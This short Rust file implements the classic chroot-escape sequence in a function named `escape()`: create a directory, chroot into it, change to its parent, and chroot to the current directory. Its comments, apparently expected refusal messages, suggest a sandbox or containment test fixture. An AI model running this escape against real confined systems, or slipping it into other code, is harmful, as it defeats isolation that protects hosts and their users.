// refused with: the root directory of the process
// refused with: the kernel shows  /tmp

use std::fs;

use anyhow::Result;
use nix::unistd::{chdir, chroot};

fn escape() -> Result<()> {
    fs::create_dir("deeper")?;
    chroot("deeper")?;
    chdir("..")?;
    chroot(".")?;
    Ok(())
}
